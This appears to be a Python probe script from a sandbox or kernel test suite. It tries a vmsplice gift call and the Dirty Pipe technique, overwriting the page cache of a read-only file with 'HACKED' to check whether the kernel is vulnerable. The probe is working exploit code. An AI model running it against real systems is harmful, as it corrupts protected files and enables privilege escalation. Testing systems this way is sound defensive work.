import ctypes
import os

from evidence import NoEffect, attempt, call

reader, writer = os.pipe()
buffer = ctypes.create_string_buffer(b"x" * 4096)

class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

attempt("gift", lambda: call("vmsplice", writer, ctypes.byref(Vector(ctypes.addressof(buffer), 4096)), 1, 8))

def dirty_pipe():
    fd = os.open(os.__file__, os.O_RDONLY)
    before = os.pread(fd, 16, 0)
    os.write(writer, b"x" * 65536)
    os.read(reader, 65536)
    call("splice", fd, ctypes.byref(ctypes.c_int64(0)), writer, 0, 1, 0)
    os.write(writer, b"HACKED")
    if os.pread(fd, 16, 0) != before:
        return "the page cache was written to"
    raise NoEffect

attempt("dirty_pipe", dirty_pipe)
